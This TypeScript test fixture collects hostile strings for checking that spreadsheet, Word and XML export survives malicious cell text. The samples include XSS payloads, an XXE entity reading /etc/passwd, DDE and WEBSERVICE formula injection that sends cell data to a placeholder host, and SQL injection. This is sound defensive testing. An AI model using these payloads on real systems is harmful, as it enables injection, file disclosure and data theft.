import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import * as v from 'valibot';
import { beside } from './shared.ts';

/** Texts that a cell, a name or a header may hold when somebody means harm, or a machine has broken. */
const own = [
  // markup, style, drawings
  '<script>window.hacked=1</script>',
  '"><img src=x onerror=window.hacked=1>',
  '<svg/onload=window.hacked=1>',
  '<style>*{display:none}</style>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '</w:t></w:r><w:r><w:instrText>INCLUDEPICTURE "http://x.invalid/a.png"</w:instrText></w:r>',
  '</t></is></c><c t="str"><f>1+1</f><v>2</v></c>',
  '</svg><script>window.hacked=1</script>',
  'expression(alert(1));background:url(http://x.invalid/)',
  'javascript:window.hacked=1',
  '{{constructor.constructor("window.hacked=1")()}}',
  // XML
  '&amp;&lt;&#0;&#x1F;&nbsp;&xxe;',
  '<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>',
  ']]><![CDATA[',
  '<?xml version="1.0"?>',
  `"'<>&`,
  // formulas
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '|calc',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u0001=1+1',
  '\u200B=1+1',
  '＝1+1',
  '=HYPERLINK("http://x.invalid","看")',
  '=cmd|"/C calc"!A0',
  '=WEBSERVICE("http://x.invalid/"&A1)',
  '_x003D_1+1',
  '_x0000__x000D_',
  // direction, joining, invisible
  '\u202E局务商县甲',
  '\u2067甲\u2069\u200F乙',
  '甲\u200D\uFEFF\u2060乙',
  'Z̸̧̢̛͎͙͚̤̖̮͎̜̤͙̀̄͆͗a̶l̷g̵o̷',
  // what XML can't hold
  '甲\u0000乙',
  '\u0001\u0002\u0008\u000B\u000C\u000E\u001F\u007F',
  '\u0080\u0085\u009F',
  '\uFFFE甲\uFFFF',
  '甲\uD800',
  '\uDC00乙',
  '\uDFFF\uD83D',
  // lines, and what separates
  '甲\n乙\r\n丙\r丁',
  '甲\u2028乙\u2029丙',
  'a,b;c\td|e"f',
  "'; DROP TABLE cases; --",
  // astral, long
  '𠮷👩‍👩‍👧‍👦',
  '長'.repeat(40_000),
  '𠮷'.repeat(20_000),
];

/** A cell of a megabyte. */
export const megabyte = '<&"\u0007甲='.repeat(150_000);

/** The list above and, where it is at hand, the Big List of Naughty Strings. */
export function hostileTexts(): string[] {
  const folder = beside('corpora/blns');
  const listed = folder === null ? [] : v.parse(v.array(v.string()), read(join(folder, 'blns.json')));
  return [...own, ...listed].filter((text) => text !== '');
}

function read(path: string): unknown {
  return JSON.parse(readFileSync(path, 'utf8'));
}
